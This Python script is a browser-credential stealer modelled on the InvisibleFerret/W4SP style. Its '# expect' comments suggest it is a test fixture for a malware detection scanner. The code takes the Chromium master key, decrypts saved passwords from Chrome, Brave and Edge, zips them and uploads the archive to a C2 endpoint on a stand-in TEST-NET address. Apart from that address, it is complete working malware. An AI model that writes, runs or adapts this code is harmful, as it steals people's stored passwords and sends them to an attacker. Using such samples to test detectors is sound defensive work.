# Browser-credential stealer in the InvisibleFerret "bow" / W4SP style:
# Chromium master key from Local State, unwrapped with CryptUnprotectData,  # expect: HS233 medium
# Login Data copied and decrypted, results zipped and uploaded to /uploads.
# Defanged: TEST-NET C2.
import base64
import json
import os
import shutil
import sqlite3
import tempfile
import zipfile

import requests
import win32crypt
from Cryptodome.Cipher import AES

C2 = "http://198.51.100.20:1224/uploads"  # expect: HS204 high
BROWSERS = {
    "chrome": os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data"),
    "brave": os.path.join(os.environ["LOCALAPPDATA"], "BraveSoftware", "Brave-Browser", "User Data"),
    "edge": os.path.join(os.environ["LOCALAPPDATA"], "Microsoft", "Edge", "User Data"),
}


def master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as f:
        key = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def passwords(root, key):
    tmp = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(root, "Default", "Login Data"), tmp)
    rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    out = []
    for url, user, blob in rows:
        iv, payload = blob[3:15], blob[15:]
        out.append((url, user, AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode(errors="ignore")))
    return out


def run(uid):
    archive = os.path.join(tempfile.gettempdir(), f"{uid}.zip")
    with zipfile.ZipFile(archive, "w") as z:
        for name, root in BROWSERS.items():
            if os.path.isdir(root):
                z.writestr(f"{name}.txt", "\n".join(map(str, passwords(root, master_key(root)))))
    with open(archive, "rb") as f:
        requests.post(C2, files={"multi_file": f}, data={"type": "14", "hid": uid}, timeout=60)  # expect: HS111 high, HS118 high
